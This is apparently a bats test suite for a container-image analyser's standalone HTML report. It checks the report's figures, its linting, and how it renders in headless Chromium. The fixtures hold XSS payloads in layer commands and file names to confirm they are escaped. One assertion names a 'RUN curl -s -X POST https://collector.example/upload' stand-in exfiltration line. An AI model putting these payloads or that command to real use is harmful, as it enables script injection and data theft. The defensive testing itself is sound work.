#!/usr/bin/env bats
# fathom report (and --report in CI mode): one self-contained HTML file. Its
# figures are the CI report's; it holds plain tables without JavaScript and
# fetches nothing; Debian's headless Chromium opens it (tests/cli/
# report_browser.py, over the DevTools protocol): no console error, the
# treemap zooms by mouse and keyboard, a layer shows its changes, tables
# sort, light and dark schemes, a screenshot that is not blank.
load helpers

IMG=$SHARED/test-docker-image.tar

setup() {
	R=$BATS_TEST_TMPDIR/report.html
}

# figures FILE: "id=data-value" for each header figure, and the row counts
figures() {
	python3 - "$1" <<'EOF'
import html.parser, sys
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(); self.table = None; self.rows = {}; self.vals = {}
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "dd" and "data-value" in a: self.vals[a["id"]] = a["data-value"]
        if tag == "table": self.table = a.get("id")
        if tag == "tr" and self.table and self.table != "rules": self.rows[self.table] = self.rows.get(self.table, 0) + 1
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
for k in sorted(p.vals): print("%s=%s" % (k, p.vals[k]))
for k in sorted(p.rows): print("rows.%s=%d" % (k, p.rows[k] - 1))
EOF
}

# evil_image: $BATS_TEST_TMPDIR/evil.tar, whose command and names hold HTML
evil_image() {
	cat >"$BATS_TEST_TMPDIR/evil.desc" <<'EOF'
layer "RUN echo </script><script>alert(1)</script>"
dir "a</script>/"
file "a</script>/<img src=x onerror=alert(2)>" size=5000
file "b\xff\x01\n" size=100
EOF
	python3 "$ROOT/tests/fixtures/mkimage.py" "$BATS_TEST_TMPDIR/evil.desc" --format docker-legacy -o "$BATS_TEST_TMPDIR/evil.tar"
}

@test "report: the figures are the CI report's, the tables its lists" {
	[ -f "$IMG" ] || skip "no shared images"
	run --separate-stderr "$FATHOM" report "$IMG" -o "$R"
	[ "$status" -eq 0 ] && [ -z "$output" ] || { echo "$status $stderr"; return 1; }
	figures "$R" >"$BATS_TEST_TMPDIR/fig"
	"$FATHOM" --ci --ci-format json "$IMG" >"$BATS_TEST_TMPDIR/ci.json" || true
	python3 - "$BATS_TEST_TMPDIR/ci.json" <<'EOF' >"$BATS_TEST_TMPDIR/want"
import json, sys
d = json.load(open(sys.argv[1]))
print("efficiency=%r" % d["efficiency"])
print("files=405")
print("layers=14")
print("reclaimable=%d" % d["reclaimableBytes"])
print("size=%d" % d["sizeBytes"])
print("user-wasted=%r" % d["userWastedPercent"])
print("wasted=%d" % d["wastedBytes"])
print("rows.advice=%d" % len(d["advice"]))
print("rows.inefficient=%d" % len(d["inefficientFiles"]))
print("rows.layer-table=14")
EOF
	diff -u "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/fig"
	# dive's numbers to the last digit, as the CI report has them
	grep -q 'id="efficiency" data-value="0.9844212134184309"' "$R"
	grep -q 'id="wasted" data-value="32025"' "$R"
	grep -q 'id="digest">sha256:75ae28b8ebf89b203319069ddcbecdf5c3838503bbebc0d0d85e4b8589c5de3a<' "$R"
	# the files count: what `fathom files` lists that is not a directory
	[ "$(grep -c . <("$FATHOM" files "$IMG" | awk -F'\t' '$2 != "d"'))" -eq 405 ]
}

@test "report: --report in CI mode adds the rules; the gate's exit status stays" {
	[ -f "$IMG" ] || skip "no shared images"
	run env CI=true "$FATHOM" "$IMG" --report "$R"
	[ "$status" -eq 1 ]
	[[ "$output" == *"FAIL [pass:2 fail:1 skip:4]"* ]]
	grep -q 'id="verdict">FAIL \[pass:2 fail:1 skip:4\]<' "$R"
	grep -q '<tr data-rule="highestUserWastedPercent"><td class="FAIL">FAIL</td>' "$R"
	grep -q '<tr data-rule="lowestEfficiency"><td class="PASS">PASS</td>' "$R"
	# every rule's value cell starts with the Markdown report's value, a
	# disabled rule's too ("highestWastedBytes ... 32025")
	CI=true "$FATHOM" "$IMG" --ci-format markdown >"$BATS_TEST_TMPDIR/ci.md" || true
	python3 - "$R" "$BATS_TEST_TMPDIR/ci.md" <<'EOF'
import re, sys
page, md = open(sys.argv[1]).read(), open(sys.argv[2]).read()
want = dict(re.findall(r"^\| (\w+) \| (?:PASS|FAIL|SKIP|WARN) \| ([^ |]+) \|", md.split("### Evaluation")[1], re.M))
got = dict(re.findall(r'<tr data-rule="(\w+)"><td class="\w+">\w+</td><td>\w+</td><td>([^<]*)</td>', page))
assert len(want) == 7 and sorted(want) == sorted(got), (want, got)
for rule, v in want.items():
    assert got[rule].split(" ")[0] == v, (rule, got[rule], v)
assert got["highestWastedBytes"] == "32025", got
EOF
	# without CI: no rules section
	"$FATHOM" report "$IMG" -o "$BATS_TEST_TMPDIR/plain.html"
	run -1 grep -q 'id="rules"' "$BATS_TEST_TMPDIR/plain.html"
	run "$FATHOM" --ci "$IMG" --report -
	[ "$status" -eq 2 ] && [[ "$output" == *"--report - and another report would both go to stdout"* ]]
}

@test "report: --ci-format html is the --report page on stdout, with the rules and the gate's exit status" {
	run --separate-stderr env CI=true "$FATHOM" "$FIX/advice-deleted.oci-gzip.tar" --ci-format html \
		--highestAdviceSavings 10KB
	[ "$status" -eq 1 ]
	printf '%s\n' "$output" >"$BATS_TEST_TMPDIR/stdout.html"
	CI=true "$FATHOM" "$FIX/advice-deleted.oci-gzip.tar" --highestAdviceSavings 10KB --report "$R" >/dev/null || true
	cmp "$R" "$BATS_TEST_TMPDIR/stdout.html"
	grep -q 'id="verdict">FAIL ' "$R"
	# --top is the text report's: the page lists as --report's does
	CI=true "$FATHOM" "$FIX/advice-deleted.oci-gzip.tar" --ci-format html --top 1 \
		--highestAdviceSavings 10KB | cmp - "$R"
}

@test "report: its style and script are real files, in the page as they are, passing eslint and css-tree" {
	command -v eslint >/dev/null || skip "eslint is not installed"
	[ -d /usr/share/nodejs/css-tree ] || skip "node-css-tree is not installed"
	cd "$ROOT"
	# Debian's modules for a node that does not look there by itself
	export NODE_PATH=/usr/share/nodejs
	eslint -f unix --no-eslintrc -c tests/eslint.json src/output/report_html.js
	node tests/css_check.js src/output/report_html.css
	# and the linters find what is wrong
	printf 'a { colr: red; width: 10qq; }\n' >"$BATS_TEST_TMPDIR/bad.css"
	run -1 node tests/css_check.js "$BATS_TEST_TMPDIR/bad.css"
	[[ "$output" == *"colr: Unknown property"*"width: Mismatch"* ]]
	printf '(function () { undefinedName = 1; })();\n' >"$BATS_TEST_TMPDIR/bad.js"
	# (eslint takes files below its working directory only)
	run -1 sh -c 'cd "$1" && eslint -f unix --no-eslintrc -c "$2" bad.js' _ "$BATS_TEST_TMPDIR" \
		"$ROOT/tests/eslint.json"
	[[ "$output" == *"'undefinedName' is not defined"* ]]
	"$FATHOM" report "$FIX/basic.oci-gzip.tar" -o "$R"
	python3 - "$R" src/output/report_html.css src/output/report_html.js <<'EOF'
import sys
page, css, js = (open(f, encoding="utf-8").read() for f in sys.argv[1:4])
assert "<style>\n" + css + "</style>" in page
assert "<script>\n" + js + "</script>" in page
EOF
}

@test "report: one file that fetches nothing; plain HTML tables; hostile names stay text" {
	evil_image
	"$FATHOM" report "$BATS_TEST_TMPDIR/evil.tar" -o - >"$R"
	# nothing to fetch: no src, href, url() or @import outside the data (the
	# names hold "src="), one script of data and one of code
	sed '/<script type="application\/json" id="data">/d' "$R" >"$BATS_TEST_TMPDIR/nodata.html"
	! grep -Eiq 'src=|href=|url\(|@import|<link' "$BATS_TEST_TMPDIR/nodata.html" ||
		{ grep -Eio '.{30}(src=|href=|url\(|@import|<link).{30}' "$BATS_TEST_TMPDIR/nodata.html"; return 1; }
	run -1 grep -q '<img' "$R"
	[ "$(grep -c '<script' "$R")" -eq 2 ]
	[ "$(grep -c '</script>' "$R")" -eq 2 ]
	grep -q '<td class="p">RUN echo &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td>' "$R"
	figures "$R" | grep -q '^rows.layer-table=1$'
	# opened with JavaScript off, the page keeps its tables (and draws no treemap)
	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" --no-js "$R"
	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	python3 -c 'import json, sys
o = json.loads(sys.argv[1])
assert o["ready"] is None and o["cells"] == 0 and o["errors"] == [], o
assert o["tables"] == 2 and o["rows"] == 1, o' "$output"
}

@test "report in Chromium: no console error; treemap zoom by mouse and keyboard; layers; sorting; dark mode" {
	[ -f "$IMG" ] || skip "no shared images"
	CI=true "$FATHOM" "$IMG" --report "$R" >/dev/null || true
	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R" "$BATS_TEST_TMPDIR/shot.png"
	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	python3 - "$output" <<'EOF'
import json, sys
o = json.loads(sys.argv[1])
assert o["errors"] == [], o["errors"]
assert o["ready"] and o["cells"] == 5, o
assert o["dir"] == "/bin" and o["zoomKey"] == "/bin" and o["zoomOut"] == "/", o
assert o["zoom"] == "/bin" and o["crumbs"] == 2 and o["zoomCells"] == 2 and o["zoomTop"] == "/", o
# /bin's two files are drawn inside it, below its name; a click on one zooms into /bin
n = o["nest"]
assert n["nested"] == 2 and n["parents"] == 1 and n["outside"] == [] and n["unlabelled"] == [], n
assert o["nestedFile"] == ["/bin/[", "/bin", 2], o
# the hidden part of a bar: opaque, its colour far from every layer's
# (layer 0 is red: so was the hidden part) and the legend's
def rgb(s): return [int(x) for x in s[4:-1].split(",")]
for scheme, c in o["colors"].items():
    assert len(c["hidden"]) == 1 and c["hiddenOpacity"] == ["1 1"], (scheme, c)
    assert c["swatch"] == c["hidden"][0], (scheme, c)
    assert len(c["bars"]) == 14 and c["cells"], (scheme, c)
    for f in c["bars"] + c["cells"]:
        d = sum((a - b) ** 2 for a, b in zip(rgb(f), rgb(c["hidden"][0]))) ** 0.5
        assert d > 64, (scheme, f, c["hidden"], d)
assert o["layer"].startswith("Layer 13: 6.4 kB") and "chmod +x /root/saved.txt" in o["layer"], o["layer"]
assert "0 added, 1 modified, 0 removed" in o["layer"], o["layer"]
assert o["sorted"] == ["/root/saved.txt", "/root/example/somefile1.txt"], o["sorted"]
assert o["light"] == "rgb(255, 255, 255)" and o["dark"] != o["light"], o
assert o["png"][1] > 64, o["png"]
EOF
	[ "$(head -c 8 "$BATS_TEST_TMPDIR/shot.png" | od -An -c | tr -d ' ')" = '211PNG\r\n032\n' ]
}

@test "report in Chromium: the treemap draws directories inside their parents, names kept, and zooms from inside" {
	cat >"$BATS_TEST_TMPDIR/nest.desc" <<'EOF'
layer "debootstrap"
file usr/lib/x86_64-linux-gnu/libLLVM.so size=300000
file usr/lib/x86_64-linux-gnu/libc.so.6 size=120000
file usr/lib/gcc/x86_64-linux-gnu/12/cc1 size=150000
file usr/share/doc/bash/copyright size=60000
file usr/share/locale/de/LC_MESSAGES/bash.mo size=70000
file usr/share/zoneinfo/UTC size=40000
file usr/bin/bash size=90000
file usr/bin/perl size=60000
layer "RUN apt-get install"
file var/lib/dpkg/status size=50000
file var/cache/apt/pkgcache.bin size=40000
file etc/ld.so.cache size=20000
EOF
	python3 "$ROOT/tests/fixtures/mkimage.py" "$BATS_TEST_TMPDIR/nest.desc" --format docker-legacy -o "$BATS_TEST_TMPDIR/nest.tar"
	"$FATHOM" report "$BATS_TEST_TMPDIR/nest.tar" -o "$R"
	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	python3 -c 'import json, sys
o = json.loads(sys.argv[1])
assert o["errors"] == [] and o["ready"] and o["cells"] == 3, o
# /usr holds lib, share and bin, which hold their own directories: three levels
n = o["nest"]
assert n["depth"] == 2 and n["nested"] >= 10 and n["parents"] >= 5, n
assert n["outside"] == [] and n["unlabelled"] == [], n
# a click on a directory drawn inside /usr zooms into it; on a file inside
# /usr/bin, into /usr/bin (three breadcrumbs: /, usr, bin)
assert o["nestedDir"] == ["/usr/lib", "/usr/lib", 3], o
assert o["nestedFile"] == ["/usr/bin/bash", "/usr/bin", 3], o
assert o["dir"] == "/usr" and o["zoomKey"] == "/usr" and o["zoom"] == "/usr" and o["zoomTop"] == "/", o' "$output"
}

@test "report in Chromium: hostile names, an ONBUILD image, a streamed image" {
	evil_image
	"$FATHOM" report - -o "$R" <"$BATS_TEST_TMPDIR/evil.tar"
	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	python3 -c 'import json, sys
o = json.loads(sys.argv[1])
assert o["errors"] == [] and o["ready"], o
# "a</script>/..." is the directory "a<" holding "script>"
assert o["dir"] == "/a<" and o["zoom"] == "/a<", o
assert "/a</script>/<img src=x onerror=alert(2)>" in o["layer"], o' "$output"
	"$FATHOM" report "$FIX/advice-onbuild.oci-dir" -o "$R"
	grep -q '<td class="FAIL">high</td><td class="p">RUN curl -s -X POST https://collector.example/upload' "$R"
	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
	[ "$status" -eq 0 ] && python3 -c 'import json, sys; o = json.loads(sys.argv[1]); assert o["errors"] == [] and o["ready"], o' "$output"
}

@test "report in Chromium: the DevTools WebSocket is opened without an Origin (Chromium 150 refuses any)" {
	"$FATHOM" report "$FIX/basic.oci-dir" -o "$R"
	mkdir "$BATS_TEST_TMPDIR/bin"
	ln -s "$ROOT/tests/cli/strict_chromium.py" "$BATS_TEST_TMPDIR/bin/chromium"
	PATH=$BATS_TEST_TMPDIR/bin:$PATH STRICT_CHROMIUM_LOG=$BATS_TEST_TMPDIR/handshakes \
		run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
	[ "$status" -eq 0 ] || { echo "$output"; cat "$BATS_TEST_TMPDIR/handshakes"; return 1; }
	python3 -c 'import json, sys; o = json.loads(sys.argv[1]); assert o["errors"] == [] and o["ready"], o' "$output"
	# the handshake went through the strict proxy, and passed
	grep -q '^passed /devtools/page/' "$BATS_TEST_TMPDIR/handshakes"
	run ! grep refused "$BATS_TEST_TMPDIR/handshakes"
}

@test "report: errors are one line, exit status 2, no file left" {
	run --separate-stderr "$FATHOM" report "$FIX/basic.oci-dir"
	[ "$status" -eq 2 ]
	[[ "$stderr" == *"-o FILE is missing"* ]]
	run --separate-stderr "$FATHOM" report "$FIX/basic.oci-dir" -o "$BATS_TEST_TMPDIR/no/such/dir/r.html"
	[ "$status" -eq 2 ]
	[ "$(printf '%s\n' "$stderr" | wc -l)" -eq 1 ]
	run --separate-stderr "$FATHOM" report "$FIX/err-truncouter.docker-legacy.tar" -o "$R"
	[ "$status" -eq 2 ]
	[ ! -e "$R" ]
	[ -z "$(ls -A "$BATS_TEST_TMPDIR" | grep -v '^bats')" ] || ls -A "$BATS_TEST_TMPDIR"
}
